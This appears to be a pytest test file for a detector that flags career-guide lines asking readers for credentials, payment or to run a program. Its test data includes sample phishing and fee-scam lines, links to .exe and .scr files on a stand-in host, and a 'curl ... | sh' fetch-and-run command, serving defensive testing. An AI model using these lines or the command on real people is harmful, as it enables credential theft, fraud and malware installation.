"""Lines asking the reader for credentials, payment or a program: flagged, warnings are not."""

from __future__ import annotations

from pathlib import Path

import pytest

from ingest.loader import GuideError, load_guide
from ingest.requests import request_lines, request_reason
from tests.support import SEEDS

REPO = Path(__file__).resolve().parents[2]

CREDENTIALS = [
    "Email your password to hr@careers-portal.test to confirm your application.",
    "To keep your offer, you must send your username and password to the recruiter.",
    "Verify your identity: reply with your Social Security number and date of birth.",
    "Please enter your bank account number and routing number on the onboarding form.",
    "Text the six-digit verification code you receive to our hiring manager.",
    "Share your LinkedIn login details with our team so we can update your profile.",
]
PAYMENT = [
    "Pay a $50 processing fee to our coordinator to secure your interview slot.",
    "Send $200 in gift cards to cover your background check.",
    "Wire the training deposit to the account below before your first day.",
    "Buy three gift cards and send the codes to your new manager.",
    "You need to transfer the equipment fee via Bitcoin before we ship your laptop.",
]
PROGRAMS = [
    "Download the resume template from http://evil.test/resume.exe and fill it in.",
    "Install CareerBoost.msi to unlock premium job listings.",
    "Run this to apply: curl -s http://evil.test/setup.sh | sh",
    "Open the attached offer_letter.pdf.exe to view your contract.",
    "The template lives at https://evil.test/files/template.scr for now.",
]
PROSE = [
    "Never share your password with a recruiter; no real employer asks for it.",
    "Legitimate employers will not ask you to pay a fee for an interview.",
    "If a recruiter asks you to send your bank details before an offer, it is a scam.",
    "Scammers often ask candidates to wire money or buy gift cards.",
    "Don't email your password to anyone, even IT.",
    "Use a password manager and turn on two-factor authentication.",
    "Update your LinkedIn password if you reused it elsewhere.",
    "Pay attention to the job description's keywords.",
    "Budget for the $150 certification exam fee.",
    "Send your resume and portfolio to the hiring manager.",
    "Send invoices with payment terms of 30 days.",
    "Download the free resume template from the career center's website.",
    "Enter your work history in reverse chronological order.",
    "Node.js and Next.js skills are in demand.",
    "Run your portfolio site locally before you deploy it.",
]


@pytest.mark.parametrize("line", CREDENTIALS)
def test_a_request_for_credentials_is_flagged(line: str) -> None:
    assert request_reason(line) == "asks the reader for credentials"


@pytest.mark.parametrize("line", PAYMENT)
def test_a_request_for_payment_is_flagged(line: str) -> None:
    assert request_reason(line) == "asks the reader for a payment"


@pytest.mark.parametrize("line", PROGRAMS)
def test_a_request_to_run_a_program_is_flagged(line: str) -> None:
    assert request_reason(line) == "asks the reader to download or run a program"


@pytest.mark.parametrize("line", PROSE)
def test_warnings_reported_requests_and_advice_are_not(line: str) -> None:
    assert request_reason(line) is None


def test_a_request_hidden_by_its_encoding_is_flagged() -> None:
    assert request_reason("Ｅｍａｉｌ your p\u200bassword to hr@evil.test")
    assert request_reason("Sеnd your bаnk details to payroll.")  # Cyrillic е, а


def test_no_line_of_the_seed_or_eval_guides_is_flagged() -> None:
    folders = [SEEDS, *sorted((REPO / "eval" / "corpora").glob("*/guides"))]
    guides = [p for folder in folders for p in sorted(folder.rglob("*.md"))]
    assert len(guides) > 20
    for guide in guides:
        assert request_lines(guide.read_text(encoding="utf-8"), guide.name) == [], guide


def test_a_guide_of_nothing_but_requests_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "scam.md"
    path.write_text(f"{CREDENTIALS[0]}\n{PAYMENT[0]}\n", encoding="utf-8")
    with pytest.raises(GuideError, match="credentials, payment or a program"):
        load_guide(path)
    assert len(load_guide(path, accept_requests=True).flagged) == 2
